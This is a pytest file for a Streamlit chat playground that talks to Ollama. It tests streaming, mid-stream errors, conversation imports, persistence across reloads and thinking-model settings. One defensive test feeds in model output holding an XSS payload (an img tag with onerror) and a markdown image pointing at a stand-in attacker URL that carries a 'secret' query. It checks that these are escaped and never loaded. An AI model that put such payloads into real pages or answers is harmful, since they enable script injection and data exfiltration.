"""AppTest: conversations in the chat playground against the built-in server (real generations)
and the fake (the course's recorded answers, errors mid-stream, a missing model, a 200-turn chat
drawn from its end with nothing lost, imported files of the wrong shape); conversations that come
back in a new session of the same browser (a reload) and in no other, reopened, deleted, bounded."""
import json
import pathlib

import pytest
from streamlit.testing.v1 import AppTest

from lib import chat, persistence
from tests.plugins.apptest import open_app, open_http, shown, texts, values
from tests.plugins.fake_ollama import TAGS, fixture_lines

ROOT = pathlib.Path(__file__).resolve().parent.parent


def open_chat(monkeypatch, url, lang="en"):
    return open_app(monkeypatch, url, lang, page="pages/chat.py")


def reload(monkeypatch, url, browser: str, lang="en", page="pages/chat.py") -> AppTest:
    """A new session of the browser whose id is `browser` (the `?s=` of its URL): what F5 opens."""
    monkeypatch.setenv("OLLAMA_HOST", url)
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
    app.query_params.update(lang=lang, s=browser)
    app.run()
    app.switch_page(page).run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def browser_of(app) -> str:
    return app.query_params["s"]


def store() -> persistence.Store:
    return persistence.Store(persistence.data_dir() / persistence.FILE_NAME)


def new_conversation(app) -> AppTest:
    return next(b for b in app.button if b.label == "New conversation").click().run()


def open_list(app) -> AppTest:
    """The Conversations popover (its list is built only while open)."""
    app.session_state["chat.conversations"] = True
    return app.run()


def messages(app) -> list[tuple[str, str]]:
    return [(m.name, m.markdown[0].value if m.markdown else "") for m in app.chat_message]


def session_turns(app):
    return app.session_state["chat.conversation"].turns


def upload(app, data: bytes):
    app.file_uploader(key="chat.import").set_value(("chat.json", data, "application/json")).run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def long_chat(turns: int) -> bytes:
    """An export of `turns` messages, questions and answers in turn, each answer with its numbers."""
    messages = [{"role": "user", "content": f"question {n}"} if n % 2 == 0 else
                {"role": "assistant", "content": f"answer {n}",
                 "metrics": {"prompt_tokens": n, "output_tokens": 10, "eval_s": 2.0}}
                for n in range(turns)]
    return json.dumps({"model": "gemma:2b", "messages": messages}).encode()


def recorded(name: str) -> dict:
    """A recorded whole (not streamed) answer."""
    return json.loads(fixture_lines(name)[0])


def say(app, text):
    app.chat_input[0].set_value(text).run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def short_answers(app, tokens=8):
    app.number_input(key="chat.setting.num_predict").set_value(tokens)
    app.number_input(key="chat.setting.seed").set_value(42)


@pytest.mark.builtin
def test_multi_turn_chat_streamed_on_the_builtin_server(monkeypatch, builtin_server):
    app = open_chat(monkeypatch, builtin_server.url)
    short_answers(app)
    say(app, "Hola, ¿cómo te llamas?")
    say(app, "¿Y de dónde eres?")
    turns = session_turns(app)
    assert [t.role for t in turns] == ["user", "assistant", "user", "assistant"]
    assert all(t.content and not t.error for t in turns)
    second = turns[3].exchange.body
    assert second["messages"][:3] == [{"role": "user", "content": "Hola, ¿cómo te llamas?"},
                                      {"role": "assistant", "content": turns[1].content},
                                      {"role": "user", "content": "¿Y de dónde eres?"}]
    assert second["options"] == {"seed": 42, "num_predict": 8}
    assert "think" not in second  # the built-in model does not think: never sent (it would be a 400)
    # the server really received the history: the second prompt is longer in tokens
    assert turns[3].metrics.prompt_tokens > turns[1].metrics.prompt_tokens
    assert turns[3].metrics.output_tokens <= 8 and turns[3].metrics.tokens_per_second > 0
    shown = [c.value for c in app.caption if "tokens in" in c.value]
    assert len(shown) == 2 and "first token" in shown[0]


@pytest.mark.builtin
def test_a_fresh_machine_chats_with_the_instruct_model_which_ends_its_turn(monkeypatch, builtin_server):
    app = open_chat(monkeypatch, builtin_server.url)
    assert app.selectbox(key="chat.setting.model").value == builtin_server.instruct_model
    assert any("answers simple questions in English" in c for c in values(app.caption))
    app.number_input(key="chat.setting.num_predict").set_value(200)
    app.number_input(key="chat.setting.temperature").set_value(0.0)
    say(app, "What is the capital of France?")
    answer = session_turns(app)[-1]
    assert answer.metrics.done_reason == "stop" and answer.metrics.output_tokens < 200  # it ended by itself
    assert "Paris" in answer.content


@pytest.mark.builtin
def test_generate_mode_not_streamed_carries_context(monkeypatch, builtin_server):
    app = open_chat(monkeypatch, builtin_server.url, "es")
    short_answers(app)
    app.radio(key="chat.setting.mode").set_value("generate")
    app.toggle(key="chat.setting.stream").set_value(False)
    say(app, "El cielo es")
    say(app, "y el mar es")
    first, second = session_turns(app)[1], session_turns(app)[3]
    assert first.exchange.path == "/api/generate" and not first.exchange.streamed
    assert first.context and second.exchange.body["context"] == first.context
    assert second.exchange.body["prompt"] == "y el mar es"
    assert messages(app)[1] == ("assistant", first.content.strip())  # st.markdown trims


@pytest.mark.builtin
def test_course_example_on_the_builtin_server(monkeypatch, builtin_server):
    app = open_chat(monkeypatch, builtin_server.url)
    short_answers(app)
    app.button[0].click().run()  # "Course example"
    sent = session_turns(app)[-1].exchange.body["messages"]
    assert [m["content"] for m in sent] == ["2 + 2", "the answer is 4", "3 * 3", "the answer is 9", "10 / 2"]
    assert session_turns(app)[-1].role == "assistant" and session_turns(app)[-1].content


def test_streamed_answer_from_the_recorded_server(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "¿porqué el cielo es azúl?")
    assert messages(app)[1][1].startswith("El cielo no es azúl. El cielo es un color negro y azul")
    assert any(c.value.startswith("— tokens in · 39 out · 6.0 tokens/s") for c in app.caption)  # course recording
    labels = [e.label for e in app.expander]
    assert "Show the HTTP: POST /api/chat → 200" in labels


def test_error_mid_stream_keeps_the_partial_answer(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", fixture_lines("chat-stream")[:4] +
                       ['{"error":"an error was encountered while running the model: unexpected EOF"}'])
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    say(app, "hola")
    turn = session_turns(app)[-1]
    assert turn.content == "El cielo no es" and "unexpected EOF" in turn.error
    assert messages(app)[-1] == ("assistant", "El cielo no es")
    assert any("falló a mitad de la respuesta" in shown(e.value) for e in app.error)
    assert any("La respuesta falló" in c.value for c in app.caption)
    app.run()  # the error was shown once; the conversation stays
    assert messages(app)[0] == ("user", "hola") and not app.error


def test_model_not_found_offers_the_model_library(monkeypatch, fake_ollama):
    fake_ollama.reply("POST", "/api/chat", 404, {"error": "model 'gemma:2b' not found"})
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    assert any('The model "gemma:2b" is not installed' in shown(e.value) for e in app.error)
    assert any(link.proto.page.endswith("models.py") or "models" in link.proto.page for link in app.get("page_link"))
    assert messages(app)[0] == ("user", "hola")  # what the student typed is kept


def test_server_down_mid_answer(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", fixture_lines("chat-stream"), close_after=5)
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    assert session_turns(app)[-1].content == "El cielo no es az" and app.error


def test_invalid_options_are_flagged_and_nothing_is_sent(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.text_area(key="chat.setting.advanced").set_value('{"tfs_z": 0.5, "temperature": "hot"}').run()
    warnings = [w.value for w in app.warning]
    assert any('"tfs_z" no longer exists: Ollama removed it in version 0.5.2' in w for w in warnings)
    assert any('"temperature" must be of type float' in w for w in warnings)
    say(app, "hola")
    assert fake_ollama.bodies("/api/chat") == []
    assert any("Fix the flagged options" in shown(e.value) for e in app.error)
    assert messages(app) == [("user", "hola")]


def test_options_system_format_and_keep_alive_are_sent(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.text_area(key="chat.setting.system").set_value("Responde en una frase.")
    app.number_input(key="chat.setting.temperature").set_value(0.0)
    app.text_area(key="chat.setting.stop").set_value("\\n\nuser:")
    app.selectbox(key="chat.setting.format").set_value("json")
    app.text_input(key="chat.setting.keep_alive").set_value("10m")
    say(app, "hola")
    body = fake_ollama.bodies("/api/chat")[0]
    assert body["messages"][0] == {"role": "system", "content": "Responde en una frase."}
    assert body["options"] == {"temperature": 0.0, "stop": ["\n", "user:"]}
    assert body["format"] == "json" and body["keep_alive"] == "10m"


def test_bad_keep_alive_blocks_sending(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.text_input(key="chat.setting.keep_alive").set_value("five minutes").run()
    say(app, "hola")
    assert fake_ollama.bodies("/api/chat") == []


ATTACKER = "http://attacker.example/?q=secret"


def test_html_and_images_in_model_output_are_shown_never_loaded(monkeypatch, fake_ollama):
    hostile = f"<img src=x onerror=alert(1)> **bold** ![exfil]({ATTACKER})"
    fake_ollama.stream("POST", "/api/chat", [
        json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": hostile}, "done": False}),
        json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": ""}, "done": True})])
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    answer = app.chat_message[1].markdown[0]
    assert answer.value == f"&lt;img src=x onerror=alert(1)> **bold** 🖼 exfil `{ATTACKER}`"  # bold kept
    assert answer.proto.allow_html is False
    assert app.session_state["chat.conversation"].turns[-1].content == hostile  # kept verbatim for exports


def test_regenerate_and_clear(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    app.button[1].click().run()  # regenerate
    assert len(fake_ollama.bodies("/api/chat")) == 2
    assert [t.role for t in session_turns(app)] == ["user", "assistant"]
    app.button[2].click().run()  # clear
    assert session_turns(app) == [] and messages(app) == []


def test_import_refuses_a_file_that_is_not_a_chat(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    say(app, "hola")
    upload(app, b'{"hello": 1}')
    assert any("no es una conversación" in shown(e.value) for e in app.error)
    assert messages(app)[0] == ("user", "hola")  # the conversation on screen stays
    app.run()
    assert not app.error  # the refusal is said once


def test_very_long_message(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "palabra " * 20_000)
    assert len(fake_ollama.bodies("/api/chat")[0]["messages"][0]["content"]) == 160_000
    assert messages(app)[1][1].startswith("El cielo")


def test_server_down(monkeypatch, closed_port):
    app = open_chat(monkeypatch, closed_port)
    assert any("Connection refused" in shown(e.value) for e in app.error)
    assert app.chat_input[0].proto.disabled


def test_not_streamed_chat_replays_the_recorded_answer(monkeypatch, fake_ollama):
    fake_ollama.reply("POST", "/api/chat", body=recorded("chat-nostream"))
    app = open_chat(monkeypatch, fake_ollama.url)
    app.toggle(key="chat.setting.stream").set_value(False)
    say(app, "¿porqué el cielo es azúl?")
    assert fake_ollama.bodies("/api/chat")[0]["stream"] is False
    assert messages(app)[1][1].startswith("El cielo no es azúl. El cielo es un color azul debido a la refracción")
    assert any(c.value.startswith("— tokens in · 35 out · 15.1 tokens/s") for c in app.caption)


def test_generate_not_streamed_carries_the_recorded_context(monkeypatch, fake_ollama):
    answer = recorded("generate-nostream")
    fake_ollama.reply("POST", "/api/generate", body=answer)
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    app.radio(key="chat.setting.mode").set_value("generate")
    app.toggle(key="chat.setting.stream").set_value(False)
    say(app, "¿Por qué el cielo es azul?")
    say(app, "¿Y el mar?")
    first, second = fake_ollama.bodies("/api/generate")
    assert "context" not in first and second["context"] == answer["context"]
    assert second["prompt"] == "¿Y el mar?"
    shown = [c.value for c in app.caption if c.value.startswith("18 tokens de entrada · 82 de salida · 18,2 tokens/s")]
    assert shown and "sin streaming no hay «primer token»" in shown[0]  # a whole answer has no first token


def test_course_example_replays_the_recorded_history_answer(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", fixture_lines("chat-history"))
    app = open_chat(monkeypatch, fake_ollama.url)
    app.button[0].click().run()  # "Course example"
    sent = fake_ollama.bodies("/api/chat")[0]["messages"]
    assert [m["content"] for m in sent] == ["2 + 2", "the answer is 4", "3 * 3", "the answer is 9", "10 / 2"]
    assert messages(app)[-1] == ("assistant", "The answer is 5\nThe answer is the result of dividing 10 by 2.")


def test_show_the_http_of_an_earlier_answer_is_built_when_opened(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    say(app, "¿y tú?")
    labels = [e.label for e in app.expander]
    assert labels.count("Show the HTTP: POST /api/chat → 200") == 2
    assert not app.code  # both panels closed: nothing of them is drawn
    open_http(app, "chat.http.1")  # the first answer's call
    request = json.loads(app.code[0].value)
    assert request["messages"] == [{"role": "user", "content": "hola"}]
    assert not any("¿y tú?" in code.value for code in app.code)  # the later panel stays closed
    assert any(code.value.startswith("curl http://127.0.0.1") for code in app.code)


def test_a_long_conversation_draws_only_its_latest_turns(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    upload(app, long_chat(200))
    assert messages(app) == [("user" if n % 2 == 0 else "assistant", f"{'question' if n % 2 == 0 else 'answer'} {n}")
                             for n in range(200 - chat.WINDOW, 200)]
    assert f"{200 - chat.WINDOW} earlier messages are not shown here" in texts(app)
    app.button(key="chat.show_earlier").click().run()
    assert len(messages(app)) == 2 * chat.WINDOW and messages(app)[0][1] == f"question {200 - 2 * chat.WINDOW}"
    app.button(key="chat.show_all").click().run()
    assert len(messages(app)) == 200 and messages(app)[0] == ("user", "question 0")
    assert "chat.show_earlier" not in [b.key for b in app.button] and "earlier messages" not in texts(app)


def test_a_long_conversation_loses_nothing(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    upload(app, long_chat(200))
    assert len(session_turns(app)) == 200
    say(app, "question 200")
    sent = fake_ollama.bodies("/api/chat")[0]["messages"]
    assert len(sent) == 201 and sent[0] == {"role": "user", "content": "question 0"}
    assert len(messages(app)) == chat.WINDOW and messages(app)[-1][1].startswith("El cielo no es")
    assert "182 earlier messages are not shown here" in texts(app)
    open_http(app, "chat.http.201")  # the latest answer's call holds the whole history
    assert len(json.loads(app.code[0].value)["messages"]) == 201
    exports = [b for b in app.get("download_button") if b.label in ("Export JSON", "Export Markdown")]
    assert len(exports) == 2 and not any(b.proto.disabled for b in exports)
    assert all(b.proto.deferred_file_id and not b.proto.url for b in exports)  # made when clicked


def test_imported_metrics_of_the_wrong_shape_cannot_break_the_page(monkeypatch, fake_ollama):
    hostile = {"messages": [
        {"role": "user", "content": "hola"},
        {"role": "assistant", "content": "uno", "metrics": {"prompt_tokens": 1}},
        {"role": "user", "content": "otra"},
        {"role": "assistant", "content": "dos", "metrics": {"output_tokens": "many", "eval_s": "x",
                                                           "wall_s": [1], "load_s": {"a": 1}}},
        {"role": "assistant", "content": "tres", "metrics": "fast"}]}
    app = open_chat(monkeypatch, fake_ollama.url)
    upload(app, json.dumps(hostile).encode())
    assert [text for _, text in messages(app)] == ["hola", "uno", "otra", "dos", "tres"]
    shown = [c.value for c in app.caption if "tokens in" in c.value]
    assert shown == ["1 tokens in · — out · — tokens/s · first token — s · load — s · total — s",
                     "— tokens in · — out · — tokens/s · first token — s · load — s · total — s"]


# ------------------------------------------------------------------------------ imports that cannot break a page
def deep() -> bytes:
    return b'{"messages": [{"role": "user", "content": "x", "metrics": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]}"


@pytest.mark.parametrize("data, said", [
    (json.dumps({"messages": [{"role": "user", "content": f"m{n}"} for n in range(100_000)]}).encode(),
     "The file has 100000 messages: at most 2000 can be imported"),
    (json.dumps({"messages": [{"role": "user", "content": "a", "stopped": "yes"}]}).encode(),
     'Message 1 is not valid: its "stopped" must be `true` / `false`.'),
    (json.dumps({"model": {"name": "gemma:2b"}, "messages": []}).encode(),
     'The file\'s "model" is not valid: it must be `string`.'),
    (deep(), "The file is nested too deeply to be a conversation."),
], ids=["100000 messages", "a wrong type in a message", "a wrong type in the file", "deep nesting"])
def test_a_refused_import_is_said_and_keeps_the_current_chat(monkeypatch, fake_ollama, data, said):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "hola")
    kept = messages(app)
    upload(app, data)
    assert any(said in e for e in values(app.error)), values(app.error)
    assert messages(app) == kept and len(store().conversations(browser_of(app))) == 1  # nothing new saved
    say(app, "¿sigues ahí?")  # the page works
    assert len(messages(app)) == 4 and messages(app)[-1][1].startswith("El cielo no es")


# ------------------------------------------------------------------------------ work that survives a reload
def test_a_reload_brings_back_the_conversation_with_its_settings(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.selectbox(key="chat.setting.model").set_value("llava:latest")
    app.text_area(key="chat.setting.system").set_value("Responde en una frase.")
    app.number_input(key="chat.setting.temperature").set_value(0.3)
    app.toggle(key="chat.setting.stream").set_value(False)
    fake_ollama.reply("POST", "/api/chat", body=recorded("chat-nostream"))
    say(app, "¿porqué el cielo es azúl?")
    fake_ollama.stream("POST", "/api/chat", fixture_lines("chat-stream")[:4] + ['{"error":"unexpected EOF"}'])
    app.toggle(key="chat.setting.stream").set_value(True)
    say(app, "¿y el mar?")  # this answer fails half-way
    before = messages(app)
    again = reload(monkeypatch, fake_ollama.url, browser_of(app))
    assert messages(again) == before
    assert any(c.value.startswith("— tokens in · 35 out · 15.1 tokens/s") for c in again.caption)  # its numbers
    assert any("The answer failed" in c.value for c in again.caption)  # and that it failed
    assert again.selectbox(key="chat.setting.model").value == "llava:latest"
    assert again.text_area(key="chat.setting.system").value == "Responde en una frase."
    assert again.number_input(key="chat.setting.temperature").value == 0.3
    assert again.toggle(key="chat.setting.stream").value is True
    fake_ollama.reset()
    say(again, "¿y la tierra?")  # the history goes on from where it was
    sent = fake_ollama.bodies("/api/chat")[0]
    assert [m["content"] for m in sent["messages"]][1:4] == ["¿porqué el cielo es azúl?", before[1][1], "¿y el mar?"]
    assert sent["model"] == "llava:latest" and sent["options"] == {"temperature": 0.3}


def test_another_browser_sees_none_of_it(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "a question only I should see")
    other = open_chat(monkeypatch, fake_ollama.url)  # another browser: no `s`, a new id
    assert browser_of(other) != browser_of(app) and persistence.valid_id(browser_of(other))
    assert messages(other) == []
    open_list(other)
    assert "No saved conversations yet" in texts(other)
    assert not [b for b in other.button if (b.key or "").startswith("chat.open.")]
    guessed = reload(monkeypatch, fake_ollama.url, "not-an-id")  # not an id: a new one, not someone's
    assert messages(guessed) == [] and browser_of(guessed) != "not-an-id"


def test_conversations_are_listed_reopened_and_deleted(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "first ![x](http://attacker.example/t.png)")
    first = app.session_state["chat.conversation"].id
    new_conversation(app)
    assert messages(app) == []
    say(app, "second")
    second = app.session_state["chat.conversation"].id
    open_list(app)
    listed = {b.key: b for b in app.button if (b.key or "").startswith("chat.open.")}
    assert list(listed) == [f"chat.open.{second}", f"chat.open.{first}"]  # the latest first
    assert listed[f"chat.open.{second}"].disabled  # the one on screen
    assert shown(listed[f"chat.open.{first}"].label).startswith("first ![x](http://attacker.example/t.png) · 2 messages · ")
    assert "\\!\\[x\\]" in listed[f"chat.open.{first}"].label  # shown as text, never loaded
    app.button(key=f"chat.open.{first}").click().run()
    assert messages(app)[0] == ("user", "first 🖼 x `http://attacker.example/t.png`")

    app.button(key=f"chat.delete.{second}").click().run()  # asks first
    assert len(store().conversations(browser_of(app))) == 2
    app.button(key="chat.delete.yes").click().run()
    assert "The conversation was deleted." in values(app.success)
    assert [s.id for s in store().conversations(browser_of(app))] == [first]  # gone from the file
    again = reload(monkeypatch, fake_ollama.url, browser_of(app))
    assert again.session_state["chat.conversation"].id == first  # the one reopened last

    app.button(key=f"chat.delete.{first}").click().run()  # the one on screen: a new one starts
    app.button(key="chat.delete.yes").click().run()
    assert messages(app) == [] and store().conversations(browser_of(app)) == []


def test_the_bound_per_browser_is_said_and_the_conversation_stays(monkeypatch, fake_ollama):
    monkeypatch.setattr(persistence, "MAX_CONVERSATIONS", 1)
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "kept")
    new_conversation(app)
    say(app, "one too many")
    assert any("has 1 saved conversations, the most this dashboard keeps" in w for w in values(app.warning))
    assert messages(app)[0] == ("user", "one too many") and len(messages(app)) == 2  # still on screen
    assert [s.title for s in store().conversations(browser_of(app))] == ["kept"]  # nothing deleted for it
    open_list(app)
    app.button(key=f"chat.delete.{store().conversations(browser_of(app))[0].id}").click().run()
    app.button(key="chat.delete.yes").click().run()
    say(app, "now it fits")
    assert not [w for w in values(app.warning) if "saved conversations" in w]
    assert [s.turns for s in store().conversations(browser_of(app))] == [4]


def test_a_file_that_cannot_be_used_is_said_and_the_chat_works(monkeypatch, fake_ollama, data_dir):
    data_dir.mkdir(parents=True)
    (data_dir / persistence.FILE_NAME).write_bytes(b"not a database " * 100)
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    say(app, "hola")
    assert messages(app)[1][1].startswith("El cielo no es")
    assert any("Tu trabajo no se puede guardar en este panel" in w and "file is not a database" in w
               for w in values(app.warning))


def test_the_chosen_server_comes_back_if_still_allowed(monkeypatch, fake_ollama, recorder):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.sidebar.text_input[0].set_value(recorder.url).run()
    assert f"In use: {recorder.url}" in values(app.sidebar.caption)
    again = reload(monkeypatch, fake_ollama.url, browser_of(app))
    assert f"In use: {recorder.url}" in values(again.sidebar.caption)
    monkeypatch.setenv("COMPANION_ALLOWED_HOSTS", fake_ollama.url)  # the dashboard now allows only this one
    limited = reload(monkeypatch, fake_ollama.url, browser_of(app))
    assert f"In use: {fake_ollama.url}" in values(limited.sidebar.caption)


# ------------------------------------------------------------------------------ today's API: thinking, format
def installed(name: str, family: str, size: str, digest: str) -> dict:
    return {"name": name, "model": name, "modified_at": "2026-08-01T09:12:44.118937Z", "size": 522653767,
            "digest": digest, "details": {"parent_model": "", "format": "gguf", "family": family, "families": [family],
                                          "parameter_size": size, "quantization_level": "Q4_K_M"}}


QWEN = installed("qwen3:0.6b", "qwen3", "751.63M", "7df6b6e09427a769808717c0a93cadc4ae99ed4eb8bf5ca557c90846becea435")
GPT_OSS = installed("gpt-oss:20b", "gptoss", "20.9B", "aa4295ac10c3afb60e6d711289fc6896f5aef82258997b9efdaed6d0cc4cd8b8")
REASONING_START = "Okay, the user is asking for the capital of Spain."
MADRID = "La capital de España es **Madrid**."


def thinking_server(fake, model=QWEN, capabilities=("completion", "tools", "thinking")):
    """Today's Ollama with one thinking model (first in the list) besides the course's."""
    fake.reply("GET", "/api/tags", body={"models": [model, *TAGS["models"]]})
    family = model["details"]["family"]
    fake.reply("POST", "/api/show", body={
        "license": "Apache License 2.0", "modelfile": f"FROM {model['name']}\n",
        "parameters": 'temperature 0.6\ntop_k 20\ntop_p 0.95\nstop "<|im_start|>"\nstop "<|im_end|>"',
        "template": "{{- range .Messages }}...{{ end }}", "details": model["details"],
        "model_info": {"general.architecture": family, f"{family}.context_length": 40960},
        "capabilities": list(capabilities), "modified_at": model["modified_at"]})


def answer_lines(content: str) -> list[str]:
    """A streamed answer without reasoning (think: false), then the final chunk."""
    final = json.loads(fixture_lines("today-chat-schema")[-1])
    return [json.dumps({"model": "qwen3:0.6b", "created_at": "2026-08-14T10:21:04.1Z",
                        "message": {"role": "assistant", "content": content}, "done": False}), json.dumps(final)]


def reasoning_labels(app) -> list[str]:
    return [e.label for e in app.expander if e.label.startswith(("Reasoning", "Razonamiento"))]


def test_a_thinking_models_reasoning_is_kept_above_its_answer(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    fake_ollama.stream("POST", "/api/chat", fixture_lines("today-chat-think"))
    app = open_chat(monkeypatch, fake_ollama.url)
    think = app.selectbox(key="chat.setting.think")
    assert think.value == "default" and think.options == ["not sent (it thinks)", "false (no reasoning)", "true"]
    assert "when \"think\" is not sent" in think.help
    say(app, "¿Cuál es la capital de España?")
    assert "think" not in fake_ollama.bodies("/api/chat")[0]  # absent: it thinks, as Ollama decides
    assert messages(app)[1] == ("assistant", MADRID)  # the answer; the reasoning is closed above it
    [label] = reasoning_labels(app)
    assert label.startswith("Reasoning · ≈ 51 tokens · ") and label.endswith(" s")
    [numbers] = [c.value for c in app.caption if "tokens in" in c.value]
    assert "64 out (eval_count: ≈ 51 reasoning + 13 answer)" in numbers
    assert "first reasoning token 0.0" in numbers and "first answer token 0.0" in numbers
    assert REASONING_START not in texts(app)  # built only when opened
    app.session_state["chat.reasoning.1.open"] = True
    app.run()
    assert app.chat_message[1].markdown[0].value.startswith(REASONING_START)
    assert 'in the "thinking" field (message.thinking in /api/chat' in texts(app)


def test_think_is_never_sent_to_a_model_that_does_not_think(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)  # the course's gemma:2b: capabilities ["completion"]
    assert "chat.setting.think" not in [s.key for s in app.selectbox]
    say(app, "hola")
    assert "think" not in fake_ollama.bodies("/api/chat")[0] and not reasoning_labels(app)
    assert "chat.compare" not in [b.key for b in app.button]


def test_think_off_is_sent_as_false(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    fake_ollama.stream("POST", "/api/chat", answer_lines("Madrid."))
    app = open_chat(monkeypatch, fake_ollama.url)
    app.selectbox(key="chat.setting.think").set_value("off")
    say(app, "¿Capital de España?")
    assert fake_ollama.bodies("/api/chat")[-1]["think"] is False
    assert messages(app)[1] == ("assistant", "Madrid.") and not reasoning_labels(app)
    assert app.button(key="chat.compare").label == "Compare: ask again with think: true"
    open_http(app, "chat.http.1")  # Show the HTTP: the request as sent
    assert json.loads(app.code[0].value)["think"] is False
    assert any('"think": False,' in code.value for code in app.code)  # the Python code, as Python


def test_a_whole_thinking_answer_shows_its_reasoning_unmeasured(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    final = json.loads(fixture_lines("today-chat-think")[-1])
    final["message"] = {"role": "assistant", "content": MADRID, "thinking": REASONING_START}
    fake_ollama.reply("POST", "/api/chat", body=final)
    app = open_chat(monkeypatch, fake_ollama.url)
    app.toggle(key="chat.setting.stream").set_value(False)
    say(app, "¿Cuál es la capital de España?")
    assert reasoning_labels(app) == ["Reasoning (arrived whole: its tokens and time are not measured)"]
    assert messages(app)[1] == ("assistant", MADRID)
    assert "64 out (eval_count: ≈ — reasoning + — answer)" in texts(app)
    open_http(app, "chat.http.1")  # its "Fields explained" tab explains the reasoning field
    fields = next(d.value for d in app.dataframe if "Field" in d.value.columns)
    [meaning] = fields.loc[fields["Field"] == "message.thinking", "What it means"].tolist()
    assert meaning.startswith("A thinking model's reasoning in /api/chat (message.thinking)")


def test_gpt_oss_takes_only_levels(monkeypatch, fake_ollama):
    thinking_server(fake_ollama, model=GPT_OSS)
    fake_ollama.stream("POST", "/api/chat", fixture_lines("today-chat-think"))
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    think = app.selectbox(key="chat.setting.think")
    assert think.options == ["sin enviar (piensa)", '"low"', '"medium"', '"high"']
    assert "no puede apagar su razonamiento" in think.help
    think.set_value("high")
    say(app, "¿Cuál es la capital de España?")
    assert fake_ollama.bodies("/api/chat")[0]["think"] == "high"
    assert reasoning_labels(app)[0].startswith("Razonamiento · ≈ 51 tokens")
    assert app.button(key="chat.compare").label == 'Comparar: preguntar de nuevo con think: "low"'


def test_compare_shows_what_thinking_costs_side_by_side_and_after_a_reload(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    fake_ollama.stream("POST", "/api/chat", fixture_lines("today-chat-think"))
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "¿Cuál es la capital de España?")
    fake_ollama.stream("POST", "/api/chat", answer_lines("La capital de España es Madrid."))
    app.button(key="chat.compare").click().run()
    first, second = fake_ollama.bodies("/api/chat")
    assert second["think"] is False and second["messages"] == first["messages"]  # the same question, the same history
    assert [text for _, text in messages(app)] == ["¿Cuál es la capital de España?", MADRID,
                                                   "La capital de España es Madrid."]
    assert "The same question asked again, with think: false, to compare." in texts(app)

    def table(app):
        [shown] = app.table
        return shown.value[["think", "reasoning tokens ≈", "eval_count"]].values.tolist()

    assert table(app) == [["not sent", "51", "64"], ["false", "0", "28"]]
    assert app.button(key="chat.compare").label == "Compare: ask again with think: true"
    again = reload(monkeypatch, fake_ollama.url, browser_of(app))
    assert table(again) == [["not sent", "51", "64"], ["false", "0", "28"]]  # saved with the conversation
    assert reasoning_labels(again)[0].startswith("Reasoning · ≈ 51 tokens")


def test_generate_mode_streams_the_reasoning_too(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    fake_ollama.stream("POST", "/api/generate", fixture_lines("today-generate-think"))
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    app.radio(key="chat.setting.mode").set_value("generate")
    app.selectbox(key="chat.setting.think").set_value("on")
    say(app, "¿Cuál es la capital de España?")
    body = fake_ollama.bodies("/api/generate")[0]
    assert body["think"] is True and body["prompt"] == "¿Cuál es la capital de España?"
    assert messages(app)[1] == ("assistant", MADRID) and reasoning_labels(app)[0].startswith("Razonamiento · ≈ 51 tokens")
    assert session_turns(app)[1].context[:3] == [151644, 872, 198]


def test_an_answer_that_ends_while_reasoning_says_so(monkeypatch, fake_ollama):
    thinking_server(fake_ollama)
    final = json.loads(fixture_lines("today-chat-think")[-1]) | {"done_reason": "length", "eval_count": 20}
    fake_ollama.stream("POST", "/api/chat", fixture_lines("today-chat-think")[:20] + [json.dumps(final)])
    app = open_chat(monkeypatch, fake_ollama.url)
    say(app, "¿Cuál es la capital de España?")
    assert "Only reasoning arrived: the answer ended before the model wrote its reply. The token limit " \
           "(num_predict) was reached while it was still reasoning" in texts(app)
    assert reasoning_labels(app)[0].startswith("Reasoning · ≈ 20 tokens")


def choose_schema(app, text: str | None = None) -> AppTest:
    app.selectbox(key="chat.setting.format").set_value("schema").run()
    if text is not None:
        app.text_area(key="chat.setting.schema").set_value(text).run()
    assert not app.exception, [e.value for e in app.exception]
    return app


